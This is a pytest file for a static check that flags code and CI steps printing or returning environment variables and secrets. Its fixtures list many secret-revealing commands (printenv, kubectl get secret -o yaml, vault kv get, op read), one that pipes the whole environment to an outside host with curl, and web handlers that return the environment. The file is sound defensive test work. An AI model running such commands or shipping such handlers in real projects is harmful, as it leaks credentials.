"""S3-ENV-DUMP: an environment, a configuration or a fetched secret that is printed, answered or reported."""

from __future__ import annotations

import pytest

from checks.evidence import Evidence, Need
from checks.model import Confidence, Severity, Status
from checks.sins.s3_ci_and_logs.env_dump import CHECK
from tests.checks.sins.cases import Case, ask, limit, seen
from tests.checks.sins.having import having
from tests.checks.sins.s3_ci_and_logs.flows import PATH, flow, pipe, run, workflow

HIGH, MEDIUM, LOW = Severity.HIGH, Severity.MEDIUM, Severity.LOW


def shows(name: str, given: Evidence, severity: Severity = HIGH, says: str = "") -> Case:
    return Case(name=name, given=given, status=Status.FAIL, finds=(severity,), says=says)


def keeps(name: str, given: Evidence) -> Case:
    return Case(name=name, given=given, status=Status.PASS)


def step(script: str, **more: str) -> Evidence:
    return flow(run(script, **more))


def file(text: str, path: str) -> Evidence:
    return having({path: text})


def python(text: str, path: str = "app.py") -> Evidence:
    return file(f"import os\n{text}\n", path)


PRINTED = (
    "env", "printenv", "set", "export -p", "export", "declare -x", "declare -p", "typeset -x", "env | sort", "env | grep -i key", "printenv | tee all.txt", "env >&2", "sudo env",
    "docker exec app env", "kubectl exec pod/app -- printenv", 'env | curl -d @- https://example.org', "env | grep -v PATH",
)  # fmt: skip
FETCHED = (
    "kubectl get secret llm -o yaml", "kubectl get secrets -ojson", "kubectl -n x get secret/llm -o jsonpath={.data.key}", "gcloud secrets versions access latest --secret=llm",
    "aws secretsmanager get-secret-value --secret-id llm", "aws ssm get-parameter --name k --with-decryption", "az keyvault secret show --name llm --vault-name v", "az keyvault secret show --name llm --query value -o tsv",
    "vault kv get secret/llm", "vault kv get -field=key secret/llm", "doppler secrets", "doppler secrets get KEY", "op read op://llm/key", "op item get llm --reveal", "sops -d secrets.yaml",
    "printenv OPENAI_API_KEY", "heroku config", "heroku config:get KEY", "railway variables", "railway variables --json", "gh auth token", "infisical secrets", "az cognitiveservices account keys list -n x",
)  # fmt: skip
CONFIGURED = ("docker inspect app", "docker compose config", "docker-compose config", "helm get values app", "helm template .", "kubectl describe pod app", "terraform show -json", "terraform output -json")  # fmt: skip
NAMES = (
    "env | cut -d= -f1", "env | cut -d '=' -f 1 | sort", "env | sed 's/=.*//'", "env | awk -F= '{print $1}'", "env | grep -c KEY", "env | grep -q KEY", "env | wc -l", "env | grep PATH", "env | grep -v -i secret",
    "env -i make", "env FOO=1 make", "env python eval.py", "X=$(env)", 'K="$(op read op://llm/key)"', "env > /dev/null", "env > out/all.txt", "set -e", "set -- a b", "export A=1", "declare -x A=1",
    "printenv HOME", "kubectl get secret llm", "kubectl get secret -o name", "kubectl get pods -o yaml", "kubectl get secret web-tls -o jsonpath='{.data.tls\\.crt}' | base64 -d", "kubectl get secret web -o json | jq -r '.data[\"ca.crt\"]' | base64 -d", "kubectl get secret web -o json | openssl x509 -noout -dates", "kubectl get secret llm -o yaml | kubectl apply -f -", "docker inspect -f '{{.State.Status}}' app",
    "docker compose config --quiet", "docker compose config --services", "aws secretsmanager get-secret-value --secret-id x --query ARN", "aws ssm get-parameter --name k", "doppler secrets --only-names",
    "gcloud secrets versions access latest --secret=x > key.json", "op read op://llm/key | docker login --password-stdin", "sops -d -i secrets.yaml", "terraform apply", "helm upgrade app .", "vault login",
    "heroku config:set KEY=x", "railway variables set KEY=x", "railway variables --set KEY=x", "infisical secrets set KEY=x",
    "aws secretsmanager get-secret-value --secret-id x | jq -r keys", "doppler run -- make", "gcloud secrets list", "terraform output -json | jq -r '.endpoint.value' >> $GITHUB_OUTPUT",
)  # fmt: skip
IN_CODE = (
    ("print", python("print(os.environ)")),
    ("a dictionary of it", python("print(dict(os.environ))")),
    ("as JSON", python("import json\nprint(json.dumps(dict(os.environ), indent=2))")),
    ("pprint", python("from pprint import pprint\npprint(os.environ)")),
    ("a logger", python("import logging\nlogging.info('env: %s', os.environ)")),
    ("a loop", python("for k, v in os.environ.items():\n    print(k, v)")),
    ("a loop that chooses keys", python("for k, v in os.environ.items():\n    if k.startswith('OPENAI_'):\n        print(k, v)")),
    ("a loop that leaves some out", python("for k, v in os.environ.items():\n    if not k.startswith('GRAPH_'):\n        print(k, v)")),
    ("a loop that prints all after it looked at some", python("for k, v in os.environ.items():\n    if k.startswith('FEATURE_'):\n        flags.add(k)\n    print(k, v)")),
    ("a loop that chooses keys by a prefix that has a name", python("MINE = 'OPENAI_'\nfor k, v in os.environ.items():\n    if k.startswith(MINE):\n        print(k, v)")),
    ("a loop that shows what it did not choose", python("for k, v in os.environ.items():\n    if k.startswith('FEATURE_'):\n        flags.add(k)\n    else:\n        print(k, v)")),
    ("a loop that leaves out what is listed", python("for k, v in os.environ.items():\n    if k in HIDDEN:\n        print(k)\n    else:\n        print(k, v)")),
    ("a loop over what is no number", python("for k, v in os.environ.items():\n    try:\n        found[k] = int(v)\n    except ValueError:\n        print(f'no number: {k}={v}')")),
    ("a list of its values", python("print([v for k, v in os.environ.items() if k])")),
    ("a loop over names that prints values", python("for k in os.environ:\n    print(k, os.environ[k])")),
    ("a copy of it in a text", python("e = os.environ.copy()\nlogger.info(f'env: {e}')")),
    ("a variable of it", python("e = dict(os.environ)\nprint(e)")),
    ("Node", file("console.log(process.env);\n", "a.js")),
    ("Node as JSON", file("console.log(JSON.stringify(process.env));\n", "a.ts")),
    ("Node's entries", file("console.log(Object.entries(process.env));\n", "a.js")),
    ("Go", file('package main\nimport ("fmt"; "os")\nfunc main() { fmt.Println(os.Environ()) }\n', "a.go")),
    ("a loop in Go", file('package main\nimport ("fmt"; "os")\nfunc main() {\n\tfor _, e := range os.Environ() {\n\t\tfmt.Println(e)\n\t}\n}\n', "a.go")),
    ("Java", file("class A { void f() { System.out.println(System.getenv()); } }\n", "A.java")),
    ("Ruby", file("puts ENV.to_h\n", "a.rb")),
    ("Ruby, looked into", file("puts ENV.inspect\n", "a.rb")),
    ("PHP", file("<?php print_r($_ENV);\n", "a.php")),
)  # fmt: skip
ANSWERED = (
    ("Flask", python("from flask import jsonify\ndef f():\n    return jsonify(dict(os.environ))")),
    ("FastAPI", python("def f():\n    return JSONResponse(dict(os.environ))")),
    ("Express", file("app.get('/debug', (req, res) => { res.json(process.env); });\n", "a.js")),
    ("PHP's page about itself", file("<?php phpinfo();\n", "info.php")),
)
NOT_IN_CODE = (
    ("a loop that shows those of one beginning, deeper down", python("for k, v in os.environ.items():\n    if k.startswith('FEATURE_'):\n        if v not in STATES:\n            print(f'{k}: {v}')")),
    ("one variable", python("print(os.environ['HOME'])")),
    ("one by get", python("print(os.environ.get('HOME'))")),
    ("one of a copy", python("e = os.environ.copy()\ne['FILE_PATH'] = name\nprint(e['FILE_PATH'], e.get('SHAPE'))")),
    ("names", python("print(sorted(os.environ))")),
    ("those of the program's own name", python("for k, v in os.environ.items():\n    if k.startswith('GRAPH_'):\n        print(f'no number: {k}={v}')")),
    ("those of a beginning that the program is given", python("class Loader:\n    def load(self):\n        for k, v in os.environ.items():\n            if k.startswith(self.prefix):\n                key = k[len(self.prefix):].lower()\n                if key in hints:\n                    try:\n                        found[key] = int(v)\n                    except ValueError as e:\n                        logger.warning(f'no number: {k}={v}: {e}')")),
    ("those of a beginning that has a name", python("PREFIX = 'GRAPH_'\nfor k, v in os.environ.items():\n    if k.startswith(PREFIX):\n        print(k, v)")),
    ("those of a list", python("SHOWN = ['HOME', 'LANG']\nfor k, v in os.environ.items():\n    if k in SHOWN:\n        print(k, v)")),
    ("names of which some are set", python("for k, v in given:\n    if k not in os.environ:\n        os.environ[k] = v\nprint([k for k in ('HOME', 'LANG') if os.environ.get(k)])")),
    ("one by its name in a loop", python("for k, v in os.environ.items():\n    if k == 'HOME':\n        print(v)")),
    ("how many", python("print(len(os.environ))")),
    ("names by a loop", python("for k in os.environ:\n    print(k)")),
    ("a copy for a child", python("import subprocess\nsubprocess.run(['x'], env=dict(os.environ))")),
    ("what a program answers that was given it", python("import subprocess\ne = os.environ.copy()\nr = subprocess.run(['x'], env=e, capture_output=True)\nprint(r.stdout)")),
    ("one in Node", file("console.log(process.env.NODE_ENV);\n", "a.js")),
    ("names in Node", file("console.log(Object.keys(process.env));\n", "a.js")),
    ("a child of Node", file("spawn('x', { env: { ...process.env } });\n", "a.js")),
    ("one in Java", file('class A { void f() { System.out.println(System.getenv("HOME")); } }\n', "A.java")),
    ("one in Ruby", file("puts ENV['HOME']\n", "a.rb")),
    ("a schema that reads it", file("const env = schema.parse(process.env);\n", "env.ts")),
)  # fmt: skip
ASKED = '#!/bin/sh\ncmd_get() {\n  vault kv get "secret/$1"\n}\ncase "$1" in\n  get) shift; cmd_get "$@" ;;\n  *) echo "usage: keys get PATH" ;;\nesac\n'
GITLAB = "test:\n  script:\n    - printenv\n"
CASES = (
    *(shows(f"a step runs {s}", step(s), says="OPENAI_API_KEY is in it") for s in PRINTED),
    *(shows(f"a step runs {s}", step(s), says="the secret itself goes into the output") for s in FETCHED),
    *(shows(f"a step runs {s}", step(s), MEDIUM, says="where a value of it is secret") for s in CONFIGURED),
    *(shows(f"a step runs {s}", step(s), LOW, says=f"“{s}”") for s in ("terraform plan", "terraform show")),
    *(keeps(f"a step runs {s}", step(s)) for s in NAMES),
    *(shows(f"a program: {name}", given, MEDIUM, says="prints its whole environment") for name, given in IN_CODE),
    *(shows(f"a program answers: {name}", given, says="answers a request with its whole environment") for name, given in ANSWERED),
    *(keeps(f"a program: {name}", given) for name, given in NOT_IN_CODE),
    shows("a crash report", python("import sentry_sdk\nsentry_sdk.set_context('env', dict(os.environ))"), MEDIUM, says="puts its whole environment into a report"),
    shows("PowerShell", step("Get-ChildItem Env:", shell="pwsh"), says="“Get-ChildItem Env:”"),
    shows("PowerShell in short", step("gci env:", shell="pwsh"), says="“gci Env:”"),
    shows("PowerShell that runs a manager", step("& az keyvault secret show --name llm", shell="pwsh"), says="the secret itself goes"),
    keeps("PowerShell that takes what a manager says", step("$value = & az keyvault secret show `\n  --name llm `\n  --query value 2>&1\n$other = (& op read op://llm/key)\n[string]$third = & op read op://llm/key\n", shell="pwsh")),
    keeps("PowerShell that gives back what a manager says", step("function Get-Key {\n  return & op read op://llm/key\n}", shell="pwsh")),
    shows("cmd", step("set", shell="cmd"), says="“set”"),
    shows("a step without a secret", flow("- run: env"), LOW, says="no secret is seen in it now"),
    shows("the summary", step("env >> $GITHUB_STEP_SUMMARY"), says="“env”"),
    shows("GitLab, which gives all to each job", pipe(GITLAB, ".gitlab-ci.yml"), says="gives every variable of the project to each step"),
    shows("CircleCI", pipe("jobs:\n  t:\n    steps:\n      - run: env\n", ".circleci/config.yml"), says="gives every variable"),
    shows("Jenkins with a credential", pipe("node { withCredentials([string(credentialsId: 'o', variable: 'OPENAI_API_KEY')]) { sh 'env' } }\n", "Jenkinsfile"), says="OPENAI_API_KEY is in it"),
    shows("Jenkins without", pipe("pipeline { stages { stage('a') { steps { sh 'printenv' } } } }\n", "Jenkinsfile"), MEDIUM),
    shows("Azure without a mapping", pipe("steps:\n  - script: env\n", "azure-pipelines.yml"), LOW),
    shows("Azure with one", pipe("steps:\n  - script: env\n    env:\n      KEY: $(OPENAI_API_KEY)\n", "azure-pipelines.yml"), says="OPENAI_API_KEY is in it"),
    shows("a script of a file", file("#!/bin/sh\nenv | sort\n", "start.sh"), MEDIUM, says="every key that is set where it runs"),
    shows("a build that knows no secret", file("FROM debian\nARG TARGETPLATFORM\nENV TZ=UTC DATA_DIR=/data\nRUN uname -a && env\n", "Dockerfile"), LOW, says="none of them is a secret now"),
    shows("a build with a secret", file("FROM debian AS a\nARG OPENAI_API_KEY\nRUN env | sort\n", "Dockerfile"), MEDIUM, says="OPENAI_API_KEY is in it, and the log of each build shows it"),
    shows("a build with a secret that is mounted", file("FROM debian\nRUN --mount=type=secret,id=hf,env=HF_TOKEN env\n", "Dockerfile"), MEDIUM, says="HF_TOKEN is in it"),
    shows("a build whose argument was of a stage before", file("FROM debian AS a\nARG OPENAI_API_KEY\nFROM debian\nRUN env\n", "Dockerfile"), LOW),
    shows("a task that a person runs to see it", file("version: '3'\ntasks:\n  admin:password:\n    cmds:\n      - kubectl get secret admin -o jsonpath='{.data.password}' | base64 -d\n", "Taskfile.yml"), LOW, says="who runs it by hand asks for that secret"),
    shows("a task that does something else", file("version: '3'\ntasks:\n  deploy:\n    cmds:\n      - kubectl get secret admin -o jsonpath='{.data.password}' | base64 -d\n", "Taskfile.yml"), MEDIUM),
    shows("make", file("debug:\n\t@env\n", "Makefile"), MEDIUM, says="“env”"),
    shows("a package's script", file('{"scripts": {"debug": "printenv"}}', "package.json"), MEDIUM),
    shows("a manager in a script of a file", file("#!/bin/sh\nop read op://llm/key\n", "key.sh"), MEDIUM),
    keeps("make's own word", file("ifneq ($(wildcard .env),)\n\tinclude .env\n\texport\nendif\nrun:\n\tpython app.py\n", "Makefile")),
    keeps("a function that other scripts ask", file('#!/bin/sh\nget_secret() {\n  kubectl get secret "$1" -o jsonpath="{.data.key}" | base64 -d\n}\n', "lib/common.sh")),
    keeps("an item of a copy", python("env = os.environ.copy()\nenv['A'] = '1'\nshim = env.get('OWN_TOKEN', 'NOT IN ENV')\nlogger.info(f'OWN_TOKEN in env: {shim[:20]}')")),
    keeps("the name of an environment", python("ENV = os.getenv('ENV', 'development')\nlogger.info(f'mode (ENV={ENV})', os.environ.get('A'))")),
    keeps("a function whose answer is taken", file('#!/bin/sh\nread_key() {\n  op read "op://llm/$1"\n}\nKEY=$(read_key key)\n', "key.sh")),
    shows("a function that is called for its answer to be seen", file('#!/bin/sh\nread_key() {\n  op read "op://llm/$1"\n}\nread_key key\n', "key.sh"), MEDIUM),
    shows("a command of a script that a person asks", file(ASKED, "keys.sh"), LOW, says="who runs it by hand asks for that secret"),
    shows("the same by one of two words", file(ASKED.replace("get)", '"find" | "get")'), "keys.sh"), LOW),
    shows("the same where a pipeline runs it", having({"keys.sh": ASKED, PATH: workflow("- run: ./keys.sh get app")}), MEDIUM, says="the secret itself goes into the output"),
    shows("a command that is called to do something else", file(ASKED.replace("get)", "deploy)"), "keys.sh"), MEDIUM),
    keeps("a configuration in a script of a file", file("#!/bin/sh\nterraform plan\n", "plan.sh")),
    Case(name="no script", given=having({}), status=Status.NOT_APPLICABLE),
    Case(name="files that were not listed", given=seen(without=(Need.FILES,)), status=Status.NOT_CHECKED),
    Case(name="nothing seen, and something lost", given=having({}, limits=(limit("unreadable", "worktree", 9),)), status=Status.NOT_CHECKED),
    Case(name="files that could not be read", given=flow(run("make"), limits=(limit("unreadable", "worktree", 9),)), status=Status.PARTIAL),
)  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_env_dump(case: Case) -> None:
    ask(CHECK, case)


def test_the_place_is_that_of_the_command() -> None:
    (finding,) = CHECK.judge(step("make\nenv | sort")).findings
    assert (finding.locations[0].line, finding.locations[0].column) == (8, 11)


def test_a_test_that_prints_is_told_with_low_confidence() -> None:
    (finding,) = CHECK.judge(python("print(os.environ)", "tests/test_app.py")).findings
    assert finding.confidence is Confidence.LOW
